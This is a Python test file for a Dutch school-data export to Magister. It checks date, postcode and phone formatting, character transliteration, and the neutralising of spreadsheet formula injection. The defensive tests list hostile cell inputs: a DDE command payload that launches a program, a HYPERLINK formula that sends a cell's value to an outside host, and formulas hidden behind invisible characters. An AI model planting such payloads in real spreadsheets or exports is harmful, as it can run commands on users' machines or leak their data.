"""What stands in one cell of the list for Magister."""

from datetime import date

import pytest

from adapters.formats.uitlevering.cells import defused, one_line, telefoon
from adapters.formats.uitlevering.letters import in_ansi, plain
from adapters.magister.cells import date_in, postcode


@pytest.mark.parametrize(
    ("form", "written"),
    [
        ("dd-mm-jjjj", "09-03-2014"),
        ("jjjj-mm-dd", "2014-03-09"),
        ("jjjjmmdd", "20140309"),
        ("dd/mm/jjjj", "09/03/2014"),
    ],
)
def test_date(form, written):
    """A date has the form that the mapping file asks for."""
    assert date_in(form, date(2014, 3, 9)) == written


@pytest.mark.parametrize(
    ("given", "written"),
    [("1234AB", "1234 AB"), ("1234 ab", "1234 AB"), (" 1234AB ", "1234 AB")],
)
def test_postcode(given, written):
    """A postcode is written with a space and capitals, as Magister does."""
    assert postcode(given) == written


@pytest.mark.parametrize(
    "given", ["B-2000", "0123AB", "1234", "12345AB", "1234ABC", "\u0661\u0662\u0663\u0664AB", ""]
)
def test_no_postcode(given):
    """What is no Dutch postcode is not made into one."""
    assert postcode(given) is None


@pytest.mark.parametrize(
    ("given", "written"),
    [
        ("0612345678", "0612345678"),
        ("+31612345678", "0612345678"),
        ("+31 (0)6-12345678", "06-12345678"),
        ("+31 (0) 71 5123456", "071 5123456"),
        ("+49 30 123456", "0049 30 123456"),
        ("(071) 512 34 56", "(071) 512 34 56"),
    ],
)
def test_telefoon(given, written):
    """A telephone number loses its plus and stays the same number."""
    assert telefoon(given) == written


@pytest.mark.parametrize("given", ["=1+1", "geen", "06", "+", "@0612345678", "0612345678 (oma)"])
def test_no_telefoon(given):
    """What is no telephone number is not made into one."""
    assert telefoon(given) is None


@pytest.mark.parametrize(
    "formula",
    [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-1-1",
        "@SUM(1)",
        "-cmd|' /C calc'!A0",
        '=HYPERLINK("https://example.org?"&A1)',
        "\uff1d1+1",
        "+31 6 12345678",
    ],
)
def test_formula_is_defused(formula):
    """A cell that a spreadsheet might run begins with an apostrophe."""
    assert defused(formula) == f"'{formula}"


@pytest.mark.parametrize(
    "text", ["", "-", "+", "-2", "-2,5", "'s-Gravesande", "a=b", "Jan-Willem", "'=1"]
)
def test_no_formula(text):
    """What no spreadsheet runs stays as it is."""
    assert defused(text) == text


@pytest.mark.parametrize(
    "hidden", ["\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\x00=1+1", "\u2028=1+1"]
)
def test_nothing_hides_a_formula(hidden):
    """Characters that do not show do not hide a formula."""
    assert defused(one_line(hidden)) == "'=1+1"


def test_one_line():
    """A text of several lines is one line in its cell."""
    assert one_line(" eerste\r\n\ttweede\u2028derde ") == "eerste tweede derde"


@pytest.mark.parametrize(
    ("name", "near"),
    [
        ("Ayşe", "Ayse"),
        ("Łukasz", "Lukasz"),
        ("Đorđe", "Dorde"),
        ("Gülşen Y\u0131ld\u0131z", "Gülsen Yildiz"),
        ("Zoë", "Zoë"),
        ("Žiga", "Žiga"),
        ("Ελένη", "?????"),
    ],
)
def test_in_ansi(name, near):
    """A letter that Windows-1252 lacks becomes the nearest that it knows."""
    assert in_ansi(name) == near
    assert near.encode("cp1252")


def test_letter_and_mark_are_one():
    """A letter that came with a separate mark fits in Windows-1252 as one letter."""
    assert in_ansi(one_line("Zoe\u0308")) == "Zoë"


@pytest.mark.parametrize("text", ["\uff1d1+1", "\u200b=1+1", "\ufeff=1+1"])
def test_no_formula_appears_in_ansi(text):
    """What becomes a formula only in Windows-1252 does not get through either."""
    assert defused(in_ansi(one_line(text))).startswith(("'", "?"))


def test_plain():
    """For a file name all letters are small and without marks."""
    assert plain("Łó Çelik-Öz 3") == "lo celik-oz 3"
